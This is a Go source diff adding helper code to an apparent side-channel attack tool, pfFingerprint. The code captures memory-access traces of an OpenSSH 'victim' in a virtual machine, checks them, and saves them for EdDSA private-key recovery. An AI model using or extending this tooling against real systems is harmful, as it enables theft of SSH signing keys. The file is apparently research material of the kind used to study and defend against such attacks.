@@ -0,0 +1,139 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"log"
+	"os"
+	"path/filepath"
+	"pfFingerprint"
+	"pfFingerprint/snapshot"
+	"pfFingerprint/trigger"
+	"strings"
+)
+
+//newKeyRecoverConfig returns the config for pfOSSHRecoverEdDSAKey
+func newKeyRecoverConfig(attackConfig *attackConfiguration, stackBufferGPA uint64, sigMsg trigger.SSHSignatureMessage) pfFingerprint.OSSHAttackConfigEdDSA {
+	return pfFingerprint.OSSHAttackConfigEdDSA{
+		ChooseTGPA:          attackConfig.chosetTGPA,
+		Fe64GPA:             attackConfig.fe64GPA,
+		StackBufGPA:         stackBufferGPA,
+		MemAccessesPerCycle: 10, //manual analysis, want all accesses right before the swap function
+		SigMsg:              sigMsg,
+		MainLoopCycles:      85,
+		StackBufAlignment:   16,
+		StackBufBytes:       256,
+	}
+}
+
+//checkCapture detects captures that cannot be used for the key recovery, i.e. a missing signature or a tracking
+//sequence that got out of sync with the victim, leading to less memory snapshots than main loop iterations
+func checkCapture(events []*snapshot.Event, config pfFingerprint.OSSHAttackConfigEdDSA) error {
+	if len(config.SigMsg.Signature) == 0 || len(config.SigMsg.Message) == 0 {
+		return fmt.Errorf("no signature received from victim")
+	}
+	snapshots := 0
+	for _, v := range events {
+		if _, ok := v.Region(config.StackBufGPA); ok {
+			snapshots++
+		}
+	}
+	if want := config.MainLoopCycles * config.MemAccessesPerCycle; snapshots < want {
+		return fmt.Errorf("sequence out of sync, got %v snapshots of the stack buffer, want at least %v", snapshots, want)
+	}
+	return nil
+}
+
+//capturePath returns path for a single capture and the path with the index before the extension otherwise,
+//e.g. attack-trace.2.txt
+func capturePath(path string, index, captures int) string {
+	if captures == 1 {
+		return path
+	}
+	ext := filepath.Ext(path)
+	return fmt.Sprintf("%v.%v%v", strings.TrimSuffix(path, ext), index, ext)
+}
+
+//captureWithRetries records attack traces until one passes checkCapture. Tracking is cleaned up after every
+//attempt, as each one uses its own session
+func captureWithRetries(ctx context.Context, app *application, attackConfig *attackConfiguration) ([]*snapshot.Event, pfFingerprint.OSSHAttackConfigEdDSA, int, error) {
+	var lastErr error
+	for attempt := 1; attempt <= app.retries+1; attempt++ {
+		attackTrace, stackBufferGPA, sigMsg, err := recordAttackTrace(ctx, app, attackConfig)
+		if ctx.Err() != nil {
+			return nil, pfFingerprint.OSSHAttackConfigEdDSA{}, attempt, fmt.Errorf("aborted : %v", ctx.Err())
+		}
+		if err != nil {
+			lastErr = fmt.Errorf("recordAttackTrace failed : %v", err)
+		} else {
+			config := newKeyRecoverConfig(attackConfig, stackBufferGPA, sigMsg)
+			if lastErr = checkCapture(attackTrace, config); lastErr == nil {
+				return attackTrace, config, attempt, nil
+			}
+		}
+		log.Printf("Capture attempt %v of %v failed : %v", attempt, app.retries+1, lastErr)
+	}
+	return nil, pfFingerprint.OSSHAttackConfigEdDSA{}, app.retries + 1, lastErr
+}
+
+//writeCapture saves the attack trace and its config
+func writeCapture(tracePath, configPath string, attackTrace []*snapshot.Event, config pfFingerprint.OSSHAttackConfigEdDSA) error {
+	outFile, err := os.Create(tracePath)
+	if err != nil {
+		return fmt.Errorf("failed to ceate out file %v : %v", tracePath, err)
+	}
+	defer func() {
+		if err := outFile.Close(); err != nil {
+			log.Printf("Failed to close out file")
+		}
+	}()
+	outWriter := bufio.NewWriter(outFile)
+
+	for _, v := range attackTrace {
+		buf, err := json.Marshal(v)
+		if err != nil {
+			return fmt.Errorf("failed to marshall event: %v", err)
+		}
+		if _, err := outWriter.Write(append(buf, []byte("\n")...)); err != nil {
+			return fmt.Errorf("failed to save attack tracke : %v", err)
+		}
+	}
+	if err := outWriter.Flush(); err != nil {
+		return fmt.Errorf("failed to flush output file : %v", err)
+	}
+
+	configBytes, err := json.Marshal(config)
+	if err != nil {
+		return fmt.Errorf("failed to marshal attack config : %v", err)
+	}
+	if err := ioutil.WriteFile(configPath, configBytes, 0770); err != nil {
+		return fmt.Errorf("failed to write attack config to file : %v", err)
+	}
+	return nil
+}
+
+//writeCaptureList saves captures at path. The paths in the list are made relative to the directory of path
+func writeCaptureList(path string, captures []pfFingerprint.OSSHCaptureEdDSA) error {
+	dir := filepath.Dir(path)
+	list := pfFingerprint.OSSHCapturesEdDSA{Captures: make([]pfFingerprint.OSSHCaptureEdDSA, len(captures))}
+	for i, v := range captures {
+		list.Captures[i] = v
+		if rel, err := filepath.Rel(dir, v.Trace); err == nil {
+			list.Captures[i].Trace = rel
+		}
+		if rel, err := filepath.Rel(dir, v.Config); err == nil {
+			list.Captures[i].Config = rel
+		}
+	}
+	buf, err := json.MarshalIndent(list, "", "  ")
+	if err != nil {
+		return fmt.Errorf("failed to marshal capture list : %v", err)
+	}
+	if err := ioutil.WriteFile(path, buf, 0770); err != nil {
+		return fmt.Errorf("failed to write capture list : %v", err)
+	}
+	return nil
+}